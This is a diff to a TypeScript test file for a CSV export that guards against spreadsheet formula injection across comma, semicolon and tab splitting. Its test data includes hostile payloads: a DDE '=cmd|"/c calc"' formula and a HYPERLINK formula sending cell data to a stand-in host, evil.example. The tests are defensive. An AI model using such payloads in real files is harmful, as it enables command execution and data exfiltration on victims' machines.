@@ -23,7 +23,10 @@ const col = (header: readonly string[], name: string) => {
 
 const FORMULA = /^\s*[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
 /** What a cell holding `s` reads as: the same text, or with a leading ' when it could run as a formula. */
-const expected = (s: string) => (FORMULA.test(s) ? `'${s}` : s);
+const expected = (s: string) => {
+  const inner = s.replace(/([,;\t\r\n])( *)(?=[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/g, "$1'$2");
+  return FORMULA.test(s) ? `'${inner}` : inner;
+};
 
 describe('toCsv', () => {
   const shortlists = [makeList({ id: 'l1', name: 'Denver, "north"' }), makeList({ id: 'l2', name: 'Second' })];
@@ -75,7 +78,7 @@ describe('toCsv', () => {
     expect(cell(mindbloom, 'Insurance')).toBe('Some services or plans (Aetna, Cigna); superbill: yes; Medicare: no; Medicaid: unknown');
     expect(cell(mindbloom, 'Financing')).toBe('HSA/FSA: unknown; CareCredit: yes; payment plans: yes');
     expect(cell(mindbloom, 'Sources')).toBe('https://mindbloom.example.com/ https://mindbloom.example.com/pricing');
-    expect(cell(mindbloom, 'Website')).toBe('https://www.mindbloom.com/');
+    expect(cell(mindbloom, 'Website')).toBe('https://mindbloom.example.com/'); // the dataset's, never the snapshot's
   });
 
   it("writes the user's status, quote, cost estimate, notes and answers", () => {
@@ -99,9 +102,9 @@ describe('toCsv', () => {
     const [h, ...r] = read(out) as [string[], ...string[][]];
     r.forEach((row, i) => {
       const p = payloads[i]!;
-      expect(row[col(h, 'Notes')]).toBe(`'${p}`);
-      expect(row[col(h, 'Quote note')]).toBe(`'${p}`);
-      expect(row[col(h, GENERAL.questions[0]!.text)]).toBe(`'${p}`);
+      expect(row[col(h, 'Notes')]).toBe(expected(p));
+      expect(row[col(h, 'Quote note')]).toBe(expected(p));
+      expect(row[col(h, GENERAL.questions[0]!.text)]).toBe(expected(p));
       expect(row[col(h, 'List')]).toBe(`'=cmd|"/c calc"!A1`);
     });
     expect(out).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
@@ -119,6 +122,29 @@ describe('toCsv', () => {
     expect(csvCell('-5')).toBe(`"'-5"`);
     expect(csvCell(12.5)).toBe('12.5');
     expect(csvCell(null)).toBe('');
+  });
+
+  it('quotes cells holding a semicolon or a tab, so spreadsheets splitting on ; or tab keep them whole', () => {
+    expect(csvCell('a;b')).toBe('"a;b"');
+    expect(csvCell('a\tb')).toBe('"a\tb"');
+    expect(csvCell('x;=1+1;')).toBe(`"x;'=1+1;"`);
+    expect(csvCell('x\t@SUM(A1)')).toBe(`"x\t'@SUM(A1)"`);
+    expect(csvCell('a, -2')).toBe(`"a,' -2"`);
+  });
+
+  it('no cell starts a formula whether the file is split on comma, semicolon or tab, quotes honoured or not', () => {
+    const payload = 'x;=1+1;\t+2,@3; =4\n-5';
+    const out = toCsv(exportInput({ shortlists: [makeList({ id: 'l', name: 'a;=HYPERLINK("x")' })], items: [makeItem({ id: 'i', shortlistId: 'l', notes: payload })] }));
+    const body = out.slice(BOM.length);
+    for (const delimiter of [',', ';', '\t']) {
+      // A reader that honours quotes: the note is one cell, neutralised at its start only if needed.
+      const quoted = Papa.parse<string[]>(body, { delimiter, quoteChar: '"', newline: '\r\n' }).data.flat();
+      // A reader with the text qualifier off: every piece between separators is a cell.
+      const raw = body.split(/\r\n|\r|\n/).flatMap((line) => line.split(delimiter));
+      for (const cell of [...quoted, ...raw]) expect(cell.replace(/^"/, '')).not.toMatch(/^ *[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/);
+    }
+    const [h, row] = read(out) as [string[], string[]];
+    expect(row[col(h, 'Notes')]).toBe(expected(payload));
   });
 
   it('reads back arbitrary list names and notes (neutralised when formula-like)', () => {
